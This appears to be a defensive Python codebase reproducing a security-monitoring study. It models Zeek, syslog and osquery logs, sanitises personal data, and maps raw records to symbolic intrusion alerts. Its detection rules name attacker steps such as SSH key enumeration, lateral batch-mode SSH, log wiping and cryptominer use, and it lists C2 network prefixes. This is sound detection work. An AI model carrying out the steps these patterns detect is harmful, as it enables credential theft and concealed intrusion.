    def __iter__(self) -> Iterator[RawLogRecord]:
        return iter(self._records)

    def clear(self) -> None:
        """Drop all buffered records."""
        self._records.clear()

    def between(self, start: float, end: float) -> list[RawLogRecord]:
        """Records with ``start <= timestamp <= end``."""
        return [r for r in self._records if start <= r.timestamp <= end]


def merge_records(*sources: Iterable[RawLogRecord]) -> list[RawLogRecord]:
    """Merge records from several sources into one time-ordered stream."""
    merged: list[RawLogRecord] = []
    for source in sources:
        merged.extend(source)
    merged.sort(key=lambda r: r.timestamp)
    return merged


def anonymize_ip(ip: str, keep_octets: int = 2) -> str:
    """Privacy-preserving IP truncation used throughout log rendering.

    The paper shows only the first part of each address (``103.102.``)
    to preserve privacy; ``keep_octets`` controls how much is kept.
    """
    if not ip:
        return ip
    parts = ip.split(".")
    if len(parts) != 4:
        return ip
    kept = parts[: max(1, min(4, keep_octets))]
    suffix = ["xxx", "yyy", "zzz", "ttt"][: 4 - len(kept)]
    return ".".join(kept + suffix)


__all__ = [
    "MonitorKind",
    "RawLogRecord",
    "LogSource",
    "merge_records",
    "anonymize_ip",
]
