"""Raw-log-to-symbolic-alert normalisation.

This is the paper's data pre-processing step: "each log message is
assigned a symbolic name indicating the attacker's intention", specific
information is sanitised, the timestamp is kept, and metadata recording
the log's origin (source IP, hostname) is attached.  The canonical
example from the paper::

    23:15:22 [internal-host] wget 64.215.xxx.yyy/abs.c (200 "OK") [7036]
        ->  alert_download_sensitive
            {host: internal-host, source-ip: 64.215.xxx.yyy}

The normaliser is a rule table keyed by monitor family.  Each rule
inspects a :class:`RawLogRecord` and either produces a symbolic alert
name plus metadata, or passes.  Records no rule matches are dropped
(they remain in the raw archive but produce no alert).
"""

from __future__ import annotations

import dataclasses
import re
from typing import Callable, Iterable, Optional, Sequence

from ..core.alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY
from .logsource import MonitorKind, RawLogRecord
from .sanitizer import Sanitizer

#: Zeek notice names -> symbolic alert names.  Covers both stock Zeek
#: policies and the NCSA-specific notices the paper mentions (including
#: the new lateral-movement notices added after the ransomware case).
ZEEK_NOTICE_MAP: dict[str, str] = {
    "Scan::Port_Scan": "alert_port_scan",
    "Scan::Address_Scan": "alert_address_sweep",
    "Scan::Vuln_Scan": "alert_vuln_scan",
    "SSH::Password_Guessing": "alert_bruteforce_ssh",
    "SSH::Login_Unusual_Hour": "alert_login_unusual_hour",
    "SSH::Login_New_Origin": "alert_login_new_origin",
    "SSH::Stolen_Credential": "alert_login_stolen_credential",
    "SSH::Outbound_Scanning": "alert_ssh_scanning_outbound",
    "SSH::Lateral_Batch": "alert_lateral_ssh_batch",
    "HTTP::Sensitive_Download": "alert_download_sensitive",
    "HTTP::Exploit_Kit_Download": "alert_download_exploit_kit",
    "HTTP::Second_Stage_Download": "alert_download_second_stage",
    "HTTP::PII_Outbound": "alert_pii_in_http",
    "Exfil::Bulk_Upload": "alert_data_exfiltration",
    "Exfil::Credential_Upload": "alert_credential_dump_upload",
    "C2::Beacon": "alert_outbound_c2",
    "C2::IRC": "alert_irc_connection",
    "C2::DNS_Tunnel": "alert_dns_tunnel",
    "C2::ICMP_Tunnel": "alert_icmp_tunnel",
    "DB::Port_Probe": "alert_db_port_probe",
    "DB::Default_Credential": "alert_db_default_password_login",
    "DB::Version_Probe": "alert_service_version_probe",
    "DB::LargeObject_Payload": "alert_db_largeobject_payload",
    "DB::File_Export": "alert_db_file_export",
    "DB::Drop_Burst": "alert_db_table_drop_burst",
    "RCE::Exploit": "alert_remote_code_execution",
    "Auth::Ghost_Account": "alert_ghost_account_login",
    "Auth::Failure_Burst": "alert_login_failure_burst",
    "Mining::Cryptominer": "alert_cryptomining",
}

#: Known command-and-control / payload-distribution networks used by the
#: emulated ransomware family (see the case-study log excerpt).
KNOWN_C2_PREFIXES: tuple[str, ...] = ("194.145.", "111.200.", "45.9.")


@dataclasses.dataclass(frozen=True)
class NormalizationRule:
    """One normalisation rule: monitor family + matcher function."""

    name: str
    monitor: MonitorKind
    matcher: Callable[[RawLogRecord], Optional[tuple[str, dict]]]


class AlertNormalizer:
    """Turns raw monitor records into symbolic, sanitised alerts."""

    def __init__(
        self,
        vocabulary: Optional[AlertVocabulary] = None,
        *,
        sanitizer: Optional[Sanitizer] = None,
        extra_rules: Sequence[NormalizationRule] = (),
    ) -> None:
        self.vocabulary = vocabulary or DEFAULT_VOCABULARY
        self.sanitizer = sanitizer or Sanitizer()
        self.rules: list[NormalizationRule] = list(self._default_rules())
        self.rules.extend(extra_rules)
        self.dropped = 0

    # ------------------------------------------------------------------
    # Rule definitions
    # ------------------------------------------------------------------
    def _default_rules(self) -> list[NormalizationRule]:
        return [
            NormalizationRule("zeek_notice", MonitorKind.ZEEK, self._match_zeek_notice),
            NormalizationRule("zeek_conn", MonitorKind.ZEEK, self._match_zeek_conn),
            NormalizationRule("syslog", MonitorKind.SYSLOG, self._match_syslog),
            NormalizationRule("auditd", MonitorKind.AUDITD, self._match_auditd),
            NormalizationRule("osquery", MonitorKind.OSQUERY, self._match_osquery),
        ]

    @staticmethod
    def _match_zeek_notice(record: RawLogRecord) -> Optional[tuple[str, dict]]:
        if record.field("stream") != "notice":
            return None
        note = str(record.field("note", ""))
        alert_name = ZEEK_NOTICE_MAP.get(note)
        if alert_name is None:
            return None
        return alert_name, {
            "source_ip": str(record.field("orig_h", "")),
            "note": note,
        }

    @staticmethod
    def _match_zeek_conn(record: RawLogRecord) -> Optional[tuple[str, dict]]:
        if record.field("stream") != "conn":
            return None
        resp_p = int(record.field("resp_p", 0))
        state = str(record.field("conn_state", ""))
        orig_h = str(record.field("orig_h", ""))
        resp_h = str(record.field("resp_h", ""))
        # Unanswered / rejected probes against database ports.
        if resp_p == 5432 and state in ("S0", "REJ", "RSTO"):
            return "alert_db_port_probe", {"source_ip": orig_h, "port": resp_p}
        # Outbound connections to known C2 infrastructure.
        if any(resp_h.startswith(prefix) for prefix in KNOWN_C2_PREFIXES):
            return "alert_outbound_c2", {"source_ip": orig_h, "destination_ip": resp_h}
        # Generic unanswered probes (port scanning).
        if state in ("S0", "REJ"):
            return "alert_port_scan", {"source_ip": orig_h, "port": resp_p}
        return None

    @staticmethod
    def _match_syslog(record: RawLogRecord) -> Optional[tuple[str, dict]]:
        program = str(record.field("program", ""))
        body = str(record.field("body", ""))
        meta = {"program": program}
        if program == "sshd" and body.startswith("Accepted"):
            match = re.search(r"for (\S+) from (\S+)", body)
            if match:
                meta.update(user=match.group(1), source_ip=match.group(2))
            return "alert_login_normal", meta
        if program == "sshd" and body.startswith("Failed"):
            match = re.search(r"for (\S+) from (\S+)", body)
            if match:
                meta.update(user=match.group(1), source_ip=match.group(2))
            return "alert_bruteforce_ssh", meta
        if program == "sudo" and "COMMAND=" in body:
            user = body.split(" :", 1)[0].strip()
            meta.update(user=user)
            return "alert_sudo_policy_violation", meta
        if program == "wget" and re.search(r"http://|(\d+\.\d+\.[\w.]+/\S+\.(c|sh|tar|tgz))", body):
            match = re.search(r"user=(\S+)", body)
            if match:
                meta.update(user=match.group(1))
            source = re.search(r"(\d+\.\d+\.[\w\d.]+)/", body)
            if source:
                meta.update(source_ip=source.group(1))
            return "alert_download_sensitive", meta
        if program == "bash":
            command_match = re.search(r'cmd="([^"]*)"', body)
            command = command_match.group(1) if command_match else ""
            user_match = re.search(r"user=(\S+)", body)
            if user_match:
                meta.update(user=user_match.group(1))
            meta.update(command=command)
            if re.search(r"\bgcc\b.*-o|\bmake\b", command) and "module" in command:
                return "alert_compile_kernel_module", meta
            if re.search(r"\bgcc\b|\bcc\b|\bmake\b", command):
                return "alert_suspicious_compile", meta
            if re.search(r"find .*id_rsa|grep -vw\s+pub", command):
                return "alert_ssh_key_enumeration", meta
            if re.search(r"known_hosts|\.ssh/config|bash_history.*Host", command):
                return "alert_known_hosts_enumeration", meta
            if re.search(r"ssh .*BatchMode=yes", command):
                return "alert_lateral_ssh_batch", meta
            if re.search(r">\s*/var/log/(wtmp|secure|cron)|>\s*/var/spool/mail", command):
                return "alert_erase_forensic_trace", meta
            if re.search(r"history -c|rm .*\.bash_history", command):
                return "alert_erase_forensic_trace", meta
            return None
        if program == "kernel" and "truncated to 0 bytes" in body:
            return "alert_erase_forensic_trace", meta
        return None

    @staticmethod
    def _match_auditd(record: RawLogRecord) -> Optional[tuple[str, dict]]:
        record_type = str(record.field("record_type", ""))
        if record_type != "SYSCALL":
            return None
        syscall = str(record.field("syscall", ""))
        user = str(record.field("acct", ""))
        meta = {"user": user, "syscall": syscall}
        if syscall == "setuid" and str(record.field("uid")) == "0" and str(record.field("auid")) not in ("0", ""):
            return "alert_privilege_escalation", meta
        if syscall == "init_module":
            meta["module"] = str(record.field("name", ""))
            return "alert_kernel_module_loaded", meta
        if syscall == "execve":
            exe = str(record.field("exe", ""))
            meta["exe"] = exe
            if exe.startswith("/tmp/"):
                return "alert_tmp_executable_created", meta
        if syscall == "openat":
            path = str(record.field("name", ""))
            meta["path"] = path
            if path.startswith("/tmp/") :
                return "alert_tmp_executable_created", meta
        return None

    @staticmethod
    def _match_osquery(record: RawLogRecord) -> Optional[tuple[str, dict]]:
        query = str(record.field("query_name", ""))
        if query == "authorized_keys":
            return "alert_new_ssh_key_added", {"user": str(record.field("username", ""))}
        if query == "kernel_modules":
            return "alert_kernel_module_loaded", {"module": str(record.field("name", ""))}
        if query == "file_events":
            path = str(record.field("target_path", ""))
            if path.startswith("/tmp/"):
                return "alert_tmp_executable_created", {"path": path}
            if path.endswith(("README_FOR_DECRYPT.txt", "HOW_TO_RECOVER.txt")):
                return "alert_ransom_note_created", {"path": path}
            return None
        if query == "process_events":
            cmdline = str(record.field("cmdline", ""))
            user = str(record.field("username", ""))
            meta = {"user": user, "command": cmdline}
            if re.search(r"find .*id_rsa", cmdline):
                return "alert_ssh_key_enumeration", meta
            if re.search(r"known_hosts|\.ssh/config", cmdline):
                return "alert_known_hosts_enumeration", meta
            if re.search(r"ssh .*BatchMode=yes", cmdline):
                return "alert_lateral_ssh_batch", meta
            if re.search(r"xmrig|minerd|stratum\+tcp", cmdline):
                return "alert_cryptomining", meta
            return None
        if query == "process_open_sockets":
            remote = str(record.field("remote_address", ""))
            if any(remote.startswith(prefix) for prefix in KNOWN_C2_PREFIXES):
                return "alert_outbound_c2", {"destination_ip": remote}
            return None
        if query == "listening_ports":
            return None
        return None

    # ------------------------------------------------------------------
    # Public API
    # ------------------------------------------------------------------
    def normalize_record(self, record: RawLogRecord) -> Optional[Alert]:
        """Normalise one raw record into an alert, or ``None`` to drop it."""
        for rule in self.rules:
            if rule.monitor is not record.monitor:
                continue
            result = rule.matcher(record)
            if result is None:
                continue
            alert_name, metadata = result
            if alert_name not in self.vocabulary:
                continue
            clean = self.sanitizer.sanitize_metadata(metadata)
            user = clean.pop("user", "")
            entity = f"user:{user}" if user else f"host:{record.host}"
            return Alert(
                timestamp=record.timestamp,
                name=alert_name,
                entity=entity,
                source_ip=str(clean.get("source_ip", "")),
                host=record.host,
                monitor=record.monitor.value,
                attributes=clean,
            )
        self.dropped += 1
        return None

    def normalize_stream(self, records: Iterable[RawLogRecord]) -> list[Alert]:
        """Normalise a stream of raw records, dropping unmatched ones."""
        alerts: list[Alert] = []
        for record in records:
            alert = self.normalize_record(record)
            if alert is not None:
                alerts.append(alert)
        return alerts


class NormalizerStage:
    """Batch pipeline-stage adapter over :class:`AlertNormalizer`.

    Implements the staged-pipeline contract
    (:class:`repro.testbed.stages.PipelineStage`, matched structurally
    so the telemetry layer carries no testbed import): a batch of
    :class:`RawLogRecord` in, a batch of symbolic :class:`Alert` out.
    """

    name = "normalize"

    def __init__(self, normalizer: AlertNormalizer) -> None:
        self.normalizer = normalizer

    def process(self, batch: Iterable[RawLogRecord]) -> list[Alert]:
        """Normalise one raw-record batch (unmatched records are dropped)."""
        return self.normalizer.normalize_stream(batch)


__all__ = [
    "ZEEK_NOTICE_MAP",
    "KNOWN_C2_PREFIXES",
    "NormalizationRule",
    "AlertNormalizer",
    "NormalizerStage",
]
