"""osquery host-monitor model (scheduled query results).

osquery runs at the kernel/host level on testbed machines and is one of
the "well-protected monitors" the defender model relies on.  It reports
rows from scheduled queries; the reproduction models the query packs
the normaliser consumes: ``process_events``, ``file_events``,
``authorized_keys`` changes, ``listening_ports`` and ``kernel_modules``.
Results are rendered/parsed as JSON lines, matching osquery's
``--logger_plugin=filesystem`` output shape.
"""

from __future__ import annotations

import dataclasses
import json
from typing import Any, Mapping, Optional

from .logsource import LogSource, MonitorKind, RawLogRecord


@dataclasses.dataclass(frozen=True)
class OsqueryResult:
    """One osquery scheduled-query result row."""

    timestamp: float
    host: str
    query_name: str
    action: str
    columns: Mapping[str, Any]

    def render(self) -> str:
        """Render as an osquery results JSON line."""
        payload = {
            "name": self.query_name,
            "hostIdentifier": self.host,
            "unixTime": int(self.timestamp),
            "action": self.action,
            "columns": dict(self.columns),
        }
        return json.dumps(payload, sort_keys=True)

    @classmethod
    def parse(cls, line: str) -> "OsqueryResult":
        """Parse a JSON line rendered by :meth:`render`."""
        payload = json.loads(line)
        return cls(
            timestamp=float(payload["unixTime"]),
            host=str(payload["hostIdentifier"]),
            query_name=str(payload["name"]),
            action=str(payload.get("action", "added")),
            columns=dict(payload.get("columns", {})),
        )

    def to_raw(self) -> RawLogRecord:
        """Wrap into the common raw-record shape."""
        return RawLogRecord(
            timestamp=self.timestamp,
            monitor=MonitorKind.OSQUERY,
            host=self.host,
            message=self.render(),
            fields={"query_name": self.query_name, "action": self.action, **dict(self.columns)},
        )


class OsqueryMonitor(LogSource):
    """Per-host osquery producer with helpers for the relevant query packs."""

    kind = MonitorKind.OSQUERY

    def __init__(self, host: str) -> None:
        super().__init__(host)

    def _result(
        self, timestamp: float, query_name: str, columns: Mapping[str, Any], *, action: str = "added"
    ) -> OsqueryResult:
        result = OsqueryResult(
            timestamp=timestamp,
            host=self.host,
            query_name=query_name,
            action=action,
            columns=dict(columns),
        )
        self.emit(result.to_raw())
        return result

    # -- query-pack helpers ---------------------------------------------------
    def process_event(
        self,
        timestamp: float,
        user: str,
        path: str,
        cmdline: str,
        *,
        parent: str = "bash",
    ) -> OsqueryResult:
        """A process-execution event."""
        return self._result(
            timestamp,
            "process_events",
            {"username": user, "path": path, "cmdline": cmdline, "parent_name": parent},
        )

    def file_event(
        self, timestamp: float, path: str, *, action: str = "CREATED", sha256: str = ""
    ) -> OsqueryResult:
        """A file-integrity-monitoring event."""
        return self._result(
            timestamp,
            "file_events",
            {"target_path": path, "action": action, "sha256": sha256},
        )

    def authorized_keys_change(self, timestamp: float, user: str, key_comment: str) -> OsqueryResult:
        """A new entry appeared in a user's authorized_keys."""
        return self._result(
            timestamp,
            "authorized_keys",
            {"username": user, "key_comment": key_comment},
        )

    def listening_port(self, timestamp: float, port: int, process: str) -> OsqueryResult:
        """A new listening socket appeared."""
        return self._result(
            timestamp,
            "listening_ports",
            {"port": port, "process_name": process},
        )

    def kernel_module(self, timestamp: float, module: str) -> OsqueryResult:
        """A kernel module was loaded."""
        return self._result(timestamp, "kernel_modules", {"name": module})

    def outbound_connection(
        self, timestamp: float, process: str, remote_address: str, remote_port: int
    ) -> OsqueryResult:
        """An outbound socket was opened by a local process."""
        return self._result(
            timestamp,
            "process_open_sockets",
            {"process_name": process, "remote_address": remote_address, "remote_port": remote_port},
        )

    def results_parsed(self) -> list[OsqueryResult]:
        """All results re-parsed from the raw buffer."""
        return [OsqueryResult.parse(r.message) for r in self]


__all__ = ["OsqueryResult", "OsqueryMonitor"]
