"""Sanitisation of personally identifiable and sensitive information.

Per the paper, specific information (personal information, filenames)
is sanitised during preprocessing while the timestamp is kept.  The
sanitiser scrubs:

* e-mail addresses and phone numbers (replaced with typed placeholders),
* national identifiers that look like US SSNs,
* password-like key/value pairs,
* home-directory filenames (kept as basename class, not full path),
* IP addresses, which are *truncated* rather than removed (the paper's
  figures keep the routing prefix, e.g. ``103.102.xxx.yyy``) so that
  origin metadata stays useful for attribution.
"""

from __future__ import annotations

import dataclasses
import re
from typing import Any, Mapping

from .logsource import anonymize_ip

_EMAIL_RE = re.compile(r"[\w.+-]+@[\w-]+\.[\w.-]+")
_SSN_RE = re.compile(r"\b\d{3}-\d{2}-\d{4}\b")
_PHONE_RE = re.compile(r"\b(?:\+?1[-. ]?)?\(?\d{3}\)?[-. ]?\d{3}[-. ]?\d{4}\b")
_IP_RE = re.compile(r"\b(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\b")
_HOME_PATH_RE = re.compile(r"/home/([\w.-]+)(/[\w./-]*)?")
_SECRET_KEYS = ("password", "passwd", "secret", "token", "api_key", "private_key")


@dataclasses.dataclass
class SanitizationReport:
    """Counts of what the sanitiser scrubbed (for auditing)."""

    emails: int = 0
    ssns: int = 0
    phones: int = 0
    ips_truncated: int = 0
    home_paths: int = 0
    secrets: int = 0

    def total(self) -> int:
        """Total number of scrubbed items."""
        return self.emails + self.ssns + self.phones + self.ips_truncated + self.home_paths + self.secrets


class Sanitizer:
    """Scrubs sensitive content from log text and alert metadata."""

    def __init__(self, *, ip_octets_kept: int = 2, truncate_ips: bool = True) -> None:
        self.ip_octets_kept = int(ip_octets_kept)
        self.truncate_ips = bool(truncate_ips)
        self.report = SanitizationReport()

    # -- text ---------------------------------------------------------------
    def sanitize_text(self, text: str) -> str:
        """Scrub a free-text log message."""
        out, count = _EMAIL_RE.subn("<email>", text)
        self.report.emails += count
        out, count = _SSN_RE.subn("<ssn>", out)
        self.report.ssns += count
        out, count = _PHONE_RE.subn("<phone>", out)
        self.report.phones += count
        out, count = _HOME_PATH_RE.subn(lambda m: f"/home/<user>{m.group(2) or ''}", out)
        self.report.home_paths += count
        if self.truncate_ips:
            def _truncate(match: re.Match[str]) -> str:
                self.report.ips_truncated += 1
                return anonymize_ip(match.group(0), self.ip_octets_kept)
            out = _IP_RE.sub(_truncate, out)
        return out

    # -- metadata ----------------------------------------------------------------
    def sanitize_metadata(self, metadata: Mapping[str, Any]) -> dict[str, Any]:
        """Scrub a metadata mapping attached to an alert.

        Secret-bearing keys are dropped entirely; string values are run
        through :meth:`sanitize_text`; IP-valued fields keep their full
        value only in the dedicated ``source_ip``/``destination_ip``
        keys (needed for attribution and response) and are truncated
        anywhere else.
        """
        clean: dict[str, Any] = {}
        for key, value in metadata.items():
            lowered = key.lower()
            if any(secret in lowered for secret in _SECRET_KEYS):
                self.report.secrets += 1
                continue
            if isinstance(value, str):
                if lowered in ("source_ip", "destination_ip", "ip"):
                    clean[key] = value
                else:
                    clean[key] = self.sanitize_text(value)
            else:
                clean[key] = value
        return clean

    def reset_report(self) -> SanitizationReport:
        """Return the current report and start a fresh one."""
        report, self.report = self.report, SanitizationReport()
        return report


__all__ = ["Sanitizer", "SanitizationReport"]
