"""rsyslog-style host log model (sshd, sudo, cron, shell activity).

NCSA's hosts ship their system logs through rsyslog; the paper's
preprocessing example -- ``23:15:22 [internal-host] wget
64.215.xxx.yyy/abs.c (200 "OK") [7036]`` -- is exactly the kind of line
this module renders and parses.  The model covers the message families
the normaliser needs: SSH authentication, sudo invocations, process
execution (wget / gcc / insmod and friends), and log-truncation events.
"""

from __future__ import annotations

import dataclasses
import datetime as _dt
import re
from typing import Optional

from .logsource import LogSource, MonitorKind, RawLogRecord

_SYSLOG_RE = re.compile(
    r"^(?P<stamp>\w{3}\s+\d{1,2} \d{2}:\d{2}:\d{2}) (?P<host>\S+) "
    r"(?P<program>[\w./-]+)(?:\[(?P<pid>\d+)\])?: (?P<body>.*)$"
)


@dataclasses.dataclass(frozen=True)
class SyslogMessage:
    """One rsyslog message."""

    timestamp: float
    host: str
    program: str
    pid: int
    body: str

    def render(self) -> str:
        """Render in the classic RFC 3164 textual form."""
        stamp = _dt.datetime.fromtimestamp(self.timestamp, tz=_dt.timezone.utc)
        return f"{stamp:%b %e %H:%M:%S} {self.host} {self.program}[{self.pid}]: {self.body}"

    @classmethod
    def parse(cls, line: str, *, year: Optional[int] = None) -> "SyslogMessage":
        """Parse a line rendered by :meth:`render`.

        Classic syslog omits the year; ``year`` supplies it (defaults to
        1970 so parsing stays deterministic without a wall clock).
        """
        match = _SYSLOG_RE.match(line.strip())
        if not match:
            raise ValueError(f"malformed syslog line: {line!r}")
        stamp = _dt.datetime.strptime(match.group("stamp"), "%b %d %H:%M:%S")
        stamp = stamp.replace(year=year or 1970, tzinfo=_dt.timezone.utc)
        return cls(
            timestamp=stamp.timestamp(),
            host=match.group("host"),
            program=match.group("program"),
            pid=int(match.group("pid") or 0),
            body=match.group("body"),
        )

    def to_raw(self) -> RawLogRecord:
        """Wrap into the common raw-record shape."""
        return RawLogRecord(
            timestamp=self.timestamp,
            monitor=MonitorKind.SYSLOG,
            host=self.host,
            message=self.render(),
            fields={"program": self.program, "pid": self.pid, "body": self.body},
        )


class SyslogMonitor(LogSource):
    """Host-side syslog producer with helpers for the common messages."""

    kind = MonitorKind.SYSLOG

    def __init__(self, host: str) -> None:
        super().__init__(host)
        self._pid = 1000

    def _next_pid(self) -> int:
        self._pid += 1
        return self._pid

    def _log(self, timestamp: float, program: str, body: str) -> SyslogMessage:
        message = SyslogMessage(
            timestamp=timestamp,
            host=self.host,
            program=program,
            pid=self._next_pid(),
            body=body,
        )
        self.emit(message.to_raw())
        return message

    # -- authentication ----------------------------------------------------
    def sshd_accepted(
        self, timestamp: float, user: str, source_ip: str, *, method: str = "password"
    ) -> SyslogMessage:
        """Successful SSH login."""
        return self._log(
            timestamp,
            "sshd",
            f"Accepted {method} for {user} from {source_ip} port 51234 ssh2",
        )

    def sshd_failed(self, timestamp: float, user: str, source_ip: str) -> SyslogMessage:
        """Failed SSH login attempt."""
        return self._log(
            timestamp,
            "sshd",
            f"Failed password for {user} from {source_ip} port 51234 ssh2",
        )

    def sudo_command(
        self, timestamp: float, user: str, command: str, *, target_user: str = "root"
    ) -> SyslogMessage:
        """sudo invocation."""
        return self._log(
            timestamp,
            "sudo",
            f"{user} : TTY=pts/0 ; PWD=/home/{user} ; USER={target_user} ; COMMAND={command}",
        )

    # -- process activity ------------------------------------------------------
    def command_executed(
        self, timestamp: float, user: str, command: str, *, exit_status: int = 0
    ) -> SyslogMessage:
        """Generic command-execution record (shell audit / process acct)."""
        return self._log(
            timestamp,
            "bash",
            f"user={user} cmd=\"{command}\" status={exit_status}",
        )

    def wget_download(
        self, timestamp: float, user: str, url: str, *, status: str = "200 \"OK\"", size: int = 7036
    ) -> SyslogMessage:
        """The paper's canonical raw example: a wget download of a source file."""
        return self._log(timestamp, "wget", f"user={user} {url} ({status}) [{size}]")

    def cron_job(self, timestamp: float, user: str, command: str) -> SyslogMessage:
        """Cron job execution."""
        return self._log(timestamp, "CRON", f"({user}) CMD ({command})")

    def log_truncated(self, timestamp: float, path: str) -> SyslogMessage:
        """A log file was truncated to zero bytes (anti-forensics)."""
        return self._log(timestamp, "kernel", f"audit: file {path} truncated to 0 bytes")

    # -- views ----------------------------------------------------------------
    def messages(self) -> list[SyslogMessage]:
        """All messages emitted so far (re-parsed from the raw buffer)."""
        out = []
        for record in self:
            out.append(
                SyslogMessage(
                    timestamp=record.timestamp,
                    host=record.host,
                    program=str(record.field("program")),
                    pid=int(record.field("pid", 0)),
                    body=str(record.field("body")),
                )
            )
        return out


__all__ = ["SyslogMessage", "SyslogMonitor"]
