"""Zeek network-security-monitor log model (conn.log and notice.log).

NCSA runs a Zeek cluster as its primary network monitor; the paper's
Fig. 1 is built from Zeek connection records and the black-hole
router's scan records, and the 25 M alert figure of Table I counts Zeek
notice-log entries.  This module models the two Zeek streams the
reproduction needs:

* :class:`ConnRecord` -- one entry of ``conn.log`` (a network flow),
  with TSV rendering/parsing compatible with Zeek's column layout for
  the fields we use,
* :class:`NoticeRecord` -- one entry of ``notice.log`` (a policy-raised
  notice), the precursor of most symbolic alerts.

Both integrate with :class:`repro.telemetry.logsource.LogSource` so the
pipeline can treat every monitor uniformly.
"""

from __future__ import annotations

import dataclasses
from typing import Iterable, Mapping, Optional, Sequence

from .logsource import LogSource, MonitorKind, RawLogRecord

#: Column order used for conn.log TSV rendering (a subset of Zeek's).
CONN_COLUMNS = (
    "ts",
    "uid",
    "id.orig_h",
    "id.orig_p",
    "id.resp_h",
    "id.resp_p",
    "proto",
    "service",
    "duration",
    "orig_bytes",
    "resp_bytes",
    "conn_state",
)

#: Column order used for notice.log TSV rendering.
NOTICE_COLUMNS = (
    "ts",
    "uid",
    "id.orig_h",
    "id.resp_h",
    "note",
    "msg",
    "src",
    "dst",
    "p",
    "actions",
)


@dataclasses.dataclass(frozen=True)
class ConnRecord:
    """One Zeek connection (flow) record."""

    ts: float
    uid: str
    orig_h: str
    orig_p: int
    resp_h: str
    resp_p: int
    proto: str = "tcp"
    service: str = "-"
    duration: float = 0.0
    orig_bytes: int = 0
    resp_bytes: int = 0
    conn_state: str = "S0"

    def to_tsv(self) -> str:
        """Render as a Zeek-style TSV line."""
        values = (
            f"{self.ts:.6f}",
            self.uid,
            self.orig_h,
            str(self.orig_p),
            self.resp_h,
            str(self.resp_p),
            self.proto,
            self.service,
            f"{self.duration:.6f}",
            str(self.orig_bytes),
            str(self.resp_bytes),
            self.conn_state,
        )
        return "\t".join(values)

    @classmethod
    def from_tsv(cls, line: str) -> "ConnRecord":
        """Parse a TSV line produced by :meth:`to_tsv`."""
        parts = line.rstrip("\n").split("\t")
        if len(parts) != len(CONN_COLUMNS):
            raise ValueError(f"malformed conn.log line ({len(parts)} columns): {line!r}")
        return cls(
            ts=float(parts[0]),
            uid=parts[1],
            orig_h=parts[2],
            orig_p=int(parts[3]),
            resp_h=parts[4],
            resp_p=int(parts[5]),
            proto=parts[6],
            service=parts[7],
            duration=float(parts[8]),
            orig_bytes=int(parts[9]),
            resp_bytes=int(parts[10]),
            conn_state=parts[11],
        )

    def to_raw(self, host: str = "zeek-manager") -> RawLogRecord:
        """Wrap into the common raw-record shape."""
        return RawLogRecord(
            timestamp=self.ts,
            monitor=MonitorKind.ZEEK,
            host=host,
            message=self.to_tsv(),
            fields={
                "stream": "conn",
                "orig_h": self.orig_h,
                "resp_h": self.resp_h,
                "resp_p": self.resp_p,
                "service": self.service,
                "conn_state": self.conn_state,
                "orig_bytes": self.orig_bytes,
                "resp_bytes": self.resp_bytes,
            },
        )


@dataclasses.dataclass(frozen=True)
class NoticeRecord:
    """One Zeek notice.log record (a policy-raised notice)."""

    ts: float
    note: str
    msg: str
    orig_h: str = "-"
    resp_h: str = "-"
    uid: str = "-"
    src: str = "-"
    dst: str = "-"
    port: int = 0
    actions: str = "Notice::ACTION_LOG"

    def to_tsv(self) -> str:
        """Render as a Zeek-style TSV line."""
        values = (
            f"{self.ts:.6f}",
            self.uid,
            self.orig_h,
            self.resp_h,
            self.note,
            self.msg,
            self.src,
            self.dst,
            str(self.port),
            self.actions,
        )
        return "\t".join(values)

    @classmethod
    def from_tsv(cls, line: str) -> "NoticeRecord":
        """Parse a TSV line produced by :meth:`to_tsv`."""
        parts = line.rstrip("\n").split("\t")
        if len(parts) != len(NOTICE_COLUMNS):
            raise ValueError(f"malformed notice.log line ({len(parts)} columns): {line!r}")
        return cls(
            ts=float(parts[0]),
            uid=parts[1],
            orig_h=parts[2],
            resp_h=parts[3],
            note=parts[4],
            msg=parts[5],
            src=parts[6],
            dst=parts[7],
            port=int(parts[8]),
            actions=parts[9],
        )

    def to_raw(self, host: str = "zeek-manager") -> RawLogRecord:
        """Wrap into the common raw-record shape."""
        return RawLogRecord(
            timestamp=self.ts,
            monitor=MonitorKind.ZEEK,
            host=host,
            message=self.to_tsv(),
            fields={
                "stream": "notice",
                "note": self.note,
                "msg": self.msg,
                "orig_h": self.orig_h,
                "resp_h": self.resp_h,
                "port": self.port,
            },
        )


class ZeekMonitor(LogSource):
    """A Zeek cluster node: buffers conn and notice records."""

    kind = MonitorKind.ZEEK

    def __init__(self, host: str = "zeek-manager") -> None:
        super().__init__(host)
        self._uid_counter = 0

    def _next_uid(self) -> str:
        self._uid_counter += 1
        return f"C{self._uid_counter:08d}"

    # -- conn.log ----------------------------------------------------------
    def record_connection(
        self,
        ts: float,
        orig_h: str,
        orig_p: int,
        resp_h: str,
        resp_p: int,
        *,
        proto: str = "tcp",
        service: str = "-",
        duration: float = 0.0,
        orig_bytes: int = 0,
        resp_bytes: int = 0,
        conn_state: str = "SF",
    ) -> ConnRecord:
        """Record one network flow and return the conn record."""
        record = ConnRecord(
            ts=ts,
            uid=self._next_uid(),
            orig_h=orig_h,
            orig_p=orig_p,
            resp_h=resp_h,
            resp_p=resp_p,
            proto=proto,
            service=service,
            duration=duration,
            orig_bytes=orig_bytes,
            resp_bytes=resp_bytes,
            conn_state=conn_state,
        )
        self.emit(record.to_raw(self.host))
        return record

    # -- notice.log -----------------------------------------------------------
    def raise_notice(
        self,
        ts: float,
        note: str,
        msg: str,
        *,
        orig_h: str = "-",
        resp_h: str = "-",
        port: int = 0,
    ) -> NoticeRecord:
        """Raise a Zeek notice and return the notice record."""
        record = NoticeRecord(
            ts=ts,
            uid=self._next_uid(),
            note=note,
            msg=msg,
            orig_h=orig_h,
            resp_h=resp_h,
            src=orig_h,
            dst=resp_h,
            port=port,
        )
        self.emit(record.to_raw(self.host))
        return record

    # -- views -------------------------------------------------------------------
    def conn_records(self) -> list[ConnRecord]:
        """All connection records recorded so far."""
        return [ConnRecord.from_tsv(r.message) for r in self if r.field("stream") == "conn"]

    def notice_records(self) -> list[NoticeRecord]:
        """All notice records recorded so far."""
        return [NoticeRecord.from_tsv(r.message) for r in self if r.field("stream") == "notice"]


def write_conn_log(records: Iterable[ConnRecord]) -> str:
    """Render a whole conn.log file (header plus TSV body)."""
